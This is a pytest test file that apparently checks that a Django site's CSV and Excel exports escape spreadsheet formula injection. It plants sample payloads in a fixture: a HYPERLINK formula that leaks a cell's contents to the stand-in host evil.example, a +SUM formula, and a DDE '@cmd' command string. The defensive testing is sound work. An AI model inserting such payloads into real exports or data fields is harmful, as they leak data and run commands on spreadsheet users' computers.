"""No export runs a formula: words that begin with =, +, - or @ come out as text in
every CSV and workbook the site and its commands write; numbers stay numbers. (The
delivery plan's CSV still imports back unchanged: plans/tests/test_import_leads_and_due.py.)"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from goldenthread.indicators.models import DataPoint, Indicator
from goldenthread.lib.cells import starts_a_formula
from goldenthread.plans.models import Action
from goldenthread.plans.services import apply_changes

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
SUM = "+SUM(1,2)"
CALL = "@cmd|' /C calc'!A0"


@pytest.fixture
def hostile(thurrock, manager):
    """An action, its commentary and an indicator written by an attacker."""
    action = Action.objects.filter(delivery_plan__plan__partnership=thurrock, code="1.11").first()
    apply_changes(action, {"text": LINK}, by=manager, also_set={"latest_commentary": SUM})
    indicator = Indicator.objects.filter(data__isnull=False).order_by("code").distinct().first()
    Indicator.objects.filter(pk=indicator.pk).update(title=CALL)
    DataPoint.objects.filter(indicator=indicator).update(note=LINK)
    return indicator


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe_csv(text: str, *hostile: str) -> None:
    cells = csv_cells(text)
    assert not [c for c in cells if starts_a_formula(c)]
    for words in hostile:
        assert "'" + words in cells, words


def assert_safe_workbook(content: bytes, *hostile: str) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    for words in hostile:
        assert words in texts, words
    assert all(c.quotePrefix for c in cells if starts_a_formula(c.value))


def test_the_delivery_plan_export_as_csv_and_excel(client, hostile, manager):
    client.force_login(manager)
    url = reverse("plans:export", args=["thurrock", "2014-15", "csv"])
    assert_safe_csv(client.get(url).content.decode(), LINK, SUM)
    url = reverse("plans:export", args=["thurrock", "2014-15", "xlsx"])
    assert_safe_workbook(client.get(url).content, LINK, SUM)


@pytest.mark.parametrize("kind", ["annual", "exception", "scorecard"])
def test_every_report_workbook(client, hostile, manager, kind):
    client.force_login(manager)
    url = reverse("reports:file", args=["thurrock", "2014-15", kind, "xlsx"])
    response = client.get(url)
    assert response.status_code == 200
    assert_safe_workbook(response.content, *{"annual": [LINK], "scorecard": [CALL]}.get(kind, []))


def test_the_api_csv(client, hostile):
    response = client.get(
        "/api/v1/actions/", {"partnership": "thurrock", "page_size": 1000, "format": "csv"}
    )
    assert_safe_csv(response.content.decode(), LINK, SUM)
    response = client.get("/api/v1/indicators/", {"page_size": 1000, "format": "csv"})
    assert_safe_csv(response.content.decode(), CALL)


def test_the_api_csv_keeps_negative_numbers_numbers(client, hostile):
    DataPoint.objects.filter(indicator=hostile).update(value=-3.5)
    response = client.get(
        "/api/v1/data-points/", {"indicator": hostile.code, "page_size": 5, "format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and {row["value"] for row in rows} == {"-3.5"}


def test_the_audit_trail_csv(client, hostile, manager):
    client.force_login(manager)
    response = client.get(reverse("audit:csv", args=["thurrock"]))
    text = b"".join(response.streaming_content).decode()
    assert_safe_csv(text, LINK)


def test_the_fingertips_csv_and_the_commands(client, hostile, tmp_path, thurrock):
    url = reverse("indicators:fingertips_csv", args=["thurrock", hostile.code])
    assert_safe_csv(client.get(url).content.decode(), CALL)
    for shape in ["tidy", "fingertips"]:
        path = tmp_path / f"{shape}.csv"
        call_command(
            "export_data",
            str(path),
            "--indicator-id",
            hostile.code,
            "--shape",
            shape,
            stdout=io.StringIO(),
        )
        assert_safe_csv(path.read_text(), *([LINK] if shape == "tidy" else [CALL]))
    path = tmp_path / "definitions.xlsx"
    call_command("export_definitions", str(path), "--partnership", "thurrock", stdout=io.StringIO())
    assert_safe_workbook(path.read_bytes(), CALL)
